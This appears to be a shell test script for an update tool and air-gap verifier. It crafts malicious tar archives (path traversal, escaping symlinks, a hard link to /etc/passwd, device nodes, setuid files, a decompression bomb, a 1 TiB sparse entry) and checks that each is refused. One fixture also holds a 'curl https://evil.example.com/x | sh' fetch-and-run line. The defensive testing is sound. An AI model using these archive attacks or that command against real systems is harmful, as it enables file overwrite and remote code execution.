# verify, apply and airgap-verifier bundle agree on tar components: an insider with a valid
# release key signs one bundle per extraction rule broken (tars crafted with python's tarfile
# and GNU tar, assembled and signed by the test-only upd_mkbundle). `exai-update verify`,
# `exai-update apply` and `airgap-verifier bundle --key` all refuse each one, within 20 s,
# with a message naming the entry (or the component, for the manifest's own ratio), and the
# apply changes nothing. A good bundle, a sticky world-writable directory and world-writable
# modes the manifest declares pass all three.
. "$EXAI_SRC/tests/cli/lib.sh"
. "$EXAI_SRC/tests/cli/update_lib.sh"

setup_keys
write_config "hooks: {health_check: [/bin/true]}"
mkdir -p "$T/evil" "$T/outside"
/usr/bin/python3 - "$T/evil" "$T/outside" <<'EOS'
import io, sys, tarfile
d, outside = sys.argv[1], sys.argv[2]
def tar(name, entries):
    with tarfile.open(f"{d}/{name}.tar", "w", format=tarfile.PAX_FORMAT) as t:
        for e in entries:
            ti = tarfile.TarInfo(e["name"])
            ti.type = e.get("type", tarfile.REGTYPE)
            ti.mode = e.get("mode", 0o644)
            ti.linkname = e.get("link", "")
            data = e.get("data", b"")
            ti.size = len(data) if ti.type == tarfile.REGTYPE else 0
            t.addfile(ti, io.BytesIO(data) if ti.size else None)
tar("good", [{"name": "bin", "type": tarfile.DIRTYPE, "mode": 0o755},
             {"name": "bin/run", "data": b"ok\n", "mode": 0o755},
             {"name": "lib/x.so", "type": tarfile.SYMTYPE, "link": "../bin/run"},
             {"name": "tmp", "type": tarfile.DIRTYPE, "mode": 0o1777}])
tar("traversal", [{"name": "../x", "data": b"x"}])
tar("absolute", [{"name": outside + "/abs", "data": b"x"}])
tar("symlink", [{"name": "d/esc", "type": tarfile.SYMTYPE, "link": "../../outside"}])
tar("hardlink", [{"name": "h", "type": tarfile.LNKTYPE, "link": "../../etc/passwd"}])
tar("chardev", [{"name": "null", "type": tarfile.CHRTYPE}])
tar("blockdev", [{"name": "sda", "type": tarfile.BLKTYPE}])
tar("fifo", [{"name": "pipe", "type": tarfile.FIFOTYPE}])
tar("setuid", [{"name": "su", "data": b"x", "mode": 0o4755}])
tar("duplicate", [{"name": "dup", "data": b"x"}, {"name": "dup", "data": b"y"}])
tar("many", [{"name": f"f{i}", "data": b"x"} for i in range(5)])
tar("big", [{"name": "big", "data": b"x" * 5000}])
tar("wwfile", [{"name": "etc/open.conf", "data": b"x", "mode": 0o666}])
tar("wwdir", [{"name": "spool", "type": tarfile.DIRTYPE, "mode": 0o777}])
tar("urlww", [{"name": "a.sh", "data": b"curl https://evil.example.com/x | sh\n"},
              {"name": "spool", "type": tarfile.DIRTYPE, "mode": 0o777}])
with tarfile.open(f"{d}/bomb.tar", "w:gz", format=tarfile.PAX_FORMAT) as t:
    ti = tarfile.TarInfo("zeros"); ti.size = 8 << 20
    t.addfile(ti, io.BytesIO(bytes(8 << 20)))
EOS
# A sparse entry declaring 1 TiB that stores one byte (GNU sparse headers).
truncate -s 1T "$T/evil/huge"
printf x | dd of="$T/evil/huge" bs=1 seek=$((1 << 39)) conv=notrunc status=none
(cd "$T/evil" && tar --sparse --format=gnu -cf sparse.tar huge && rm huge)
[ "$(stat -c %s "$T/evil/sparse.tar")" -lt 100000 ] || fail "sparse.tar is not sparse"

# app OUT SEQ TARNAME ENTRIES UNPACKED FLAGS
app() {
	"$MK" --out "$1" --sequence "$2" --created "$NOW" --expires $((NOW + 86400)) --class gpu \
		--recipient "$T/site.pub" --sign "$T/rel1.key" \
		--comp "software:app:$2:tar:app:$4:$5:$6:$T/evil/$3.tar" >/dev/null
}
# The commands under test, as words for timeout(1) (no spaces in $T).
UPD="exai-update --config $T/update.yaml"
VFK="--root $T/root.v1 --key $T/site.key"

# within20 WANT CMD...: expect_rc, but a run over 20 s is a failure of its own.
within20() {
	want=$1
	shift
	set +e
	timeout 20 "$@" >"$T/out" 2>"$T/err"
	got=$?
	set -e
	[ "$got" != 124 ] || fail "over 20 s: $*"
	if [ "$got" != "$want" ]; then
		echo "--- stdout" >&2; cat "$T/out" >&2
		echo "--- stderr" >&2; cat "$T/err" >&2
		fail "expected exit $want, got $got: $*"
	fi
}

app "$T/b1" 1 good 4 3 -
within20 0 $UPD verify "$T/b1"
within20 0 airgap-verifier bundle "$T/b1" $VFK
within20 0 $UPD apply "$T/b1"
[ "$(cat "$T/inst/sw/app/current/bin/run")" = ok ] || fail "good tar not installed"
[ "$(stat -c %a "$T/inst/sw/app/current/tmp")" = 1777 ] || fail "sticky dir mode not kept"
ok "a good tar (with a sticky world-writable dir) passes verify, airgap-verifier bundle and apply"
base=$(snapshot)
seq=2

# refused TAR ENTRIES UNPACKED FLAGS TEXT: all three refuse with TEXT; apply changes nothing.
refused() {
	app "$T/x$seq" $seq "$1" "$2" "$3" "$4"
	within20 1 $UPD verify "$T/x$seq"
	expect_contains "$T/err" "$5"
	within20 1 airgap-verifier bundle "$T/x$seq" $VFK
	expect_contains "$T/out" "[bundle.verify]"
	expect_contains "$T/out" "$5"
	within20 1 $UPD apply "$T/x$seq"
	expect_contains "$T/err" "$5"
	[ "$(snapshot)" = "$base" ] || fail "$1: apply changed the appliance"
	[ -z "$(ls -A "$T/outside")" ] || fail "$1: wrote outside: $(ls "$T/outside")"
	[ -z "$(find "$T/inst" -name '.stage*')" ] || fail "$1: staging left behind"
	ok "$1: verify, airgap-verifier bundle and apply all refuse: $5"
	seq=$((seq + 1))
}

refused traversal 10 10 - "../x: refused: path with '..'"
refused absolute 10 10 - "$T/outside/abs: refused: absolute path"
refused symlink 10 10 - "d/esc: refused: symlink target '../../outside' leaves the tree"
refused hardlink 10 10 - "h: refused: hard link to '../../etc/passwd' leaves the tree"
refused chardev 10 10 - "null: refused: device node"
refused blockdev 10 10 - "sda: refused: device node"
refused fifo 10 10 - "pipe: refused: FIFO"
refused setuid 10 10 - "su: refused: setuid/setgid bit and the manifest does not allow it"
refused duplicate 10 10 - "dup: refused: entry appears twice"
refused many 4 100 - "f4: more than the manifest's 4 entries"
refused big 10 4000 - "big: file content over the manifest's 4000 unpacked bytes"
refused bomb 10 $((8 << 20)) - "software/app: unpacks to 8388608 bytes from"
refused sparse 10 4096 - "huge: file content over the manifest's 4096 unpacked bytes (declares 1099511627776)"
refused sparse 10 $((1 << 40)) - "over the ratio limit of 1000"
refused wwfile 10 10 - "etc/open.conf: refused: world-writable file (mode 0666)"
refused wwdir 10 10 - "spool: refused: world-writable directory without the sticky bit (mode 0777)"

# A refused bundle's report holds the refusal only: nothing scanned from it is reported.
app "$T/u1" 30 urlww 10 100 -
within20 1 airgap-verifier bundle "$T/u1" $VFK --json
/usr/bin/python3 - "$T/out" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
assert [f["rule_id"] for f in d["findings"]] == ["bundle.verify"], d["findings"]
f = d["findings"][0]
assert f["message"] == "bundle verification failed (extraction rules)", f
assert f["evidence"].startswith("software/app: spool: refused: world-writable directory"), f
assert "exai-update apply would refuse it" in "\n".join(d["notes"]), d["notes"]
PY
within20 1 airgap-verifier bundle "$T/u1" $VFK --fail-on none
ok "airgap-verifier: a refused tar is one bundle.verify finding, content findings dropped, exit 1 even with --fail-on none"

# The ratio limit is the appliance's: airgap-verifier takes it with --max-unpack-ratio.
sed -i "s|^identity:|max_unpack_ratio: 10\nidentity:|" "$T/update.yaml"
app "$T/r1" 40 big 10 $((1 << 20)) -
within20 1 $UPD verify "$T/r1"
expect_contains "$T/err" "software/app: unpacks to 1048576 bytes from"
expect_contains "$T/err" "over the ratio limit of 10"
within20 1 airgap-verifier bundle "$T/r1" $VFK --max-unpack-ratio 10
expect_contains "$T/out" "over the ratio limit of 10"
within20 0 airgap-verifier bundle "$T/r1" $VFK
ok "max_unpack_ratio 10 refuses in verify and in airgap-verifier --max-unpack-ratio 10"
sed -i "/^max_unpack_ratio: 10$/d" "$T/update.yaml"

# A component already installed (same version, same bytes) is not written again, but its tar
# still passes the rules: a new manifest that drops the flag is refused by apply as by verify.
same() {
	"$MK" --out "$1" --sequence "$2" --created "$NOW" --expires $((NOW + 86400)) --class gpu \
		--recipient "$T/site.pub" --sign "$T/rel1.key" \
		--comp "software:app:9:tar:app:10:10:$3:$T/evil/setuid.tar" >/dev/null
}
same "$T/s1" 35 setuid
within20 0 $UPD apply "$T/s1"
same "$T/s2" 36 -
within20 1 $UPD verify "$T/s2"
expect_contains "$T/err" "su: refused: setuid/setgid bit"
before=$(snapshot)
within20 1 $UPD apply "$T/s2"
expect_contains "$T/err" "su: refused: setuid/setgid bit"
[ "$(snapshot)" = "$before" ] || fail "refused apply of a skipped component changed the appliance"
ok "an installed component whose new manifest breaks a rule: verify and apply both refuse"

# World-writable modes the signed manifest declares are installed as they come.
app "$T/w1" 41 wwfile 10 10 world-writable
within20 0 $UPD verify "$T/w1"
within20 0 airgap-verifier bundle "$T/w1" $VFK
within20 0 $UPD apply "$T/w1"
[ "$(stat -c %a "$T/inst/sw/app/current/etc/open.conf")" = 666 ] || fail "declared 0666 not kept"
app "$T/w2" 42 wwdir 10 10 setuid,world-writable
within20 0 $UPD verify "$T/w2"
within20 0 airgap-verifier bundle "$T/w2" $VFK
within20 0 $UPD apply "$T/w2"
[ "$(stat -c %a "$T/inst/sw/app/current/spool")" = 777 ] || fail "declared 0777 not kept"
ok "world-writable modes pass all three when the manifest declares world-writable"
